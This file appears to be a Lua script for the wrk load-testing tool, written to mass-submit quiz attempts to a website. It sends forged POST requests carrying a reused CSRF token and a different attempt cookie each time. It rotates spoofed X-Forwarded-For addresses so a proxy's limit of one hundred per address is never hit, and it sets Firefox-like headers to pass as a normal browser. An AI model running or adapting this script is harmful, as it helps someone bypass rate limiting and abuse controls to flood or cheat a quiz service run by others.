-- For wrk: each request finishes another quiz; a hundred come from each address, says a proxy.
-- Arguments: a file with an attempt's cookie in each line, the CSRF token, the origin, and the
-- answers as a form's body, and a number that is another one in each run, for other addresses.
local number = 0

function setup(thread)
  thread:set("first", number)
  number = number + 1
end

function init(arguments)
  cookies = {}
  local line = 0
  for cookie in io.lines(arguments[1]) do
    if line % 2 == first then cookies[#cookies + 1] = cookie end
    line = line + 1
  end
  token, origin, body, round = arguments[2], arguments[3], arguments[4], arguments[5]
  headers = {
    ["Content-Type"] = "application/x-www-form-urlencoded",
    ["Origin"] = origin,
    ["Referer"] = origin .. "/",
    ["Accept"] = "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
    ["Accept-Language"] = "en-US,en;q=0.5",
    ["Accept-Encoding"] = "gzip, deflate, br",
    ["User-Agent"] = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
  }
  turn = 0
end

function request()
  turn = turn + 1
  local school = math.floor(turn / 100) % 250
  headers["X-Forwarded-For"] = string.format("10.%d.%d.%d", round, first, school)
  headers["Cookie"] = "csrftoken=" .. token .. "; attempt=" .. (cookies[turn] or "none-left")
  return wrk.format("POST", nil, headers, body)
end
